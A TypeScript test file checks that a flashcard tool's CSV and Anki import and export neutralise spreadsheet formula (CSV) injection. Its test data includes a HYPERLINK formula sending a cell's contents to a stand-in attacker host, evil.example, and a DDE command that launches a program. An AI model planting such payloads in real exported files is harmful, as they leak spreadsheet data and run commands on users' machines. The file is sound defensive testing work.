// Spreadsheet formulas ("CSV injection") through the REAL import and export: cells starting with = + - @
// (a HYPERLINK that sends a cell to a web address, a DDE command), and one kept inert by its leading
// spaces. Exported as CSV or Anki text, every such cell carries a leading apostrophe (text, to a
// spreadsheet); --raw writes them as the deck has them; importing never turns an inert cell into an
// active one, and an export imported and exported again gives the same bytes. The tags cell starts with
// the topic's tag, `factdeck::topic::@SUM` (Anki sorts tags, so the topic is marked by a prefix): a cell
// that starts with a letter is text to a spreadsheet and is left as it is; a tags cell that does start
// with a formula character is neutralised like any other (test/interop/import-deck.test.ts).

import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { requireBuild, runCli, tempDirs } from '../helpers/cli-run.js';

const dirs = tempDirs('factdeck-formulas-');
let root: string;
let deckDir: string;

// The tester's file: a HYPERLINK formula, a DDE command, @SUM as a tag; a negative sum; "  =1+1" (inert).
const INPUT = 'front,back,tags\n"=HYPERLINK(""http://evil.example/?""&A1,""click"")",+cmd|\' /C calc\'!A0,@SUM\n-2+3,"  =1+1",x\n';

beforeAll(async () => {
  requireBuild();
  root = await dirs.make();
  await writeFile(join(root, 'formulas.csv'), INPUT);
  deckDir = join(root, 'formulas');
  const imported = await runCli(['import', join(root, 'formulas.csv'), '--out', deckDir]);
  expect(imported.code, imported.stderr).toBe(0);
});
afterAll(async () => {
  await dirs.removeAll();
});

async function exported(format: 'csv' | 'anki', ...more: string[]): Promise<string> {
  const run = await runCli(['export', '--format', format, '--deck', deckDir, ...more]);
  expect(run.code, run.stderr).toBe(0);
  expect(run.stderr).toBe('');
  return run.stdout;
}

describe('export', () => {
  test('CSV: every cell a spreadsheet would run starts with an apostrophe', async () => {
    expect(await exported('csv')).toBe(
      'front,back,tags\r\n' +
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",\'+cmd|\' /C calc\'!A0,factdeck::topic::@SUM formulas\r\n' +
        "'-2+3,'  =1+1,factdeck::topic::x formulas\r\n",
    );
  });

  test('Anki text: the same cells, the same apostrophes', async () => {
    const body = (await exported('anki')).split('\n').filter((line) => !line.startsWith('#'));
    expect(body).toEqual(['"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\t\'+cmd|\' /C calc\'!A0\tfactdeck::topic::@SUM formulas', "'-2+3\t'  =1+1\tfactdeck::topic::x formulas", '']);
  });

  test('--raw: the cells as the deck has them, the inert one still inert', async () => {
    expect(await exported('csv', '--raw')).toBe(
      'front,back,tags\r\n' + '"=HYPERLINK(""http://evil.example/?""&A1,""click"")",+cmd|\' /C calc\'!A0,factdeck::topic::@SUM formulas\r\n' + '-2+3,  =1+1,factdeck::topic::x formulas\r\n',
    );
  });
});

describe('import', () => {
  test('keeps the spaces that make "  =1+1" inert', async () => {
    const deck = JSON.parse(await readFile(join(deckDir, 'deck.json'), 'utf8')) as { facts: { statement: string }[] };
    expect(deck.facts.map((fact) => fact.statement)).toEqual(["+cmd|' /C calc'!A0", '  =1+1']);
  });

  test('an export imported and exported again gives the same bytes: nothing is un-neutralized', async () => {
    for (const format of ['csv', 'anki'] as const) {
      const first = await exported(format);
      const file = join(root, `again.${format === 'csv' ? 'csv' : 'txt'}`);
      await writeFile(file, first);
      const again = join(root, `again-${format}`);
      const imported = await runCli(['import', file, '--out', again, '--title', 'formulas']);
      expect(imported.code, imported.stderr).toBe(0);
      const run = await runCli(['export', '--format', format, '--deck', again]);
      expect(run.stdout.replaceAll('again-csv', 'formulas').replaceAll('again-anki', 'formulas')).toBe(first);
    }
  });
});
